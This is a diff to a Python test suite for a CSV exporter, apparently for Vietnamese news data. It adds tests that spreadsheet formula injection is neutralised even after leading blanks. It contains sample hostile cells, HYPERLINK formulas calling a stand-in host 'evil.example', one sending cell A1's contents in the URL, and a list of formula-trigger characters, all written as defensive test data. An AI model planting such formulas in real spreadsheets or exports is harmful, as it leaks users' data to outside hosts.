@@ -29,6 +29,7 @@ BOM = b"\xef\xbb\xbf"
 NUMERIC = {"start", "end", "score"}
 TEXT_COLUMNS = [c for c in COLUMNS if c not in NUMERIC]
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+BLANKS = "".join(chr(c) for c in range(0x110000) if chr(c).isspace()) + "\u200b\u200c\u200d\u2060\ufeff"
 
 D1_TEXT = 'Ông Putin 😀 nói: "Nga ủng hộ Triều Tiên". 𝔸𝔹 là ký hiệu.'
 D1_TITLE = 'Tin "nóng", hôm nay\nphần 2'
@@ -240,11 +241,34 @@ def test_hostile_cells_are_neutralised_in_every_text_column(built, tmp_path):
 def test_neutralise_examples():
     for cell in ('=HYPERLINK("http://x","y")', "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "'=1", "'"):
         assert neutralise(cell) == "'" + cell and restore(neutralise(cell)) == cell
-    for cell in ("", "Hà Nội", "1-2", " =1", "5", "a=b"):
+    for cell in ("", "Hà Nội", "1-2", " x =1", "5", "a=b", "   ", " 'x"):
         assert neutralise(cell) == cell
     # the accepted trade-off: a Vietnamese dialogue dash is marked too
     assert neutralise("- Chào anh!") == "'- Chào anh!"
     assert set(FORMULA_STARTS) == set(DANGEROUS)
+
+
+# spreadsheets skip leading blanks before they look for a formula
+LEADING_BLANKS = (" ", "  ", "\t ", " \t", "\u00a0", "\u3000", "\u2003 ", "\u200b", "\ufeff", "\n", "\r\n ")
+
+
+@pytest.mark.parametrize("blank", LEADING_BLANKS)
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
+def test_a_formula_after_leading_spaces_is_neutralised(blank, trigger):
+    cell = f'{blank}{trigger}HYPERLINK("http://evil.example","Bấm")'
+    assert neutralise(cell) == "'" + cell and restore(neutralise(cell)) == cell
+
+
+def test_a_leading_space_formula_title_is_neutralised_in_the_file(tmp_path):
+    title = '  =HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")'
+    record = {"id": "d", "title": title, "layer": "gold", "status": "done", "text": "Hà Nội",
+              "entities": [{"start": 0, "end": 6, "label": "LOC", "origin": "manual"}],
+              "quotes": [], "stances": []}
+    out = tmp_path / "t.csv"
+    with mock.patch.object(csv_table, "selected_records", lambda store, opts: iter([(None, record)])):
+        assert csv_table.export_csv(None, out) == 1
+    (row,) = read_table(out)
+    assert row["title"] == "'" + title and restore(row["title"]) == title
 
 
 @settings(deadline=None, max_examples=500)
@@ -254,7 +278,7 @@ def test_neutralised_cell_never_starts_a_formula_and_restores(cell):
     assert not safe.startswith(DANGEROUS)
     assert safe in (cell, "'" + cell)
     assert restore(safe) == cell
-    if cell.startswith(DANGEROUS):
+    if cell.startswith(DANGEROUS) or cell.lstrip(BLANKS).startswith(("=", "+", "-", "@")):
         assert safe == "'" + cell
 
 
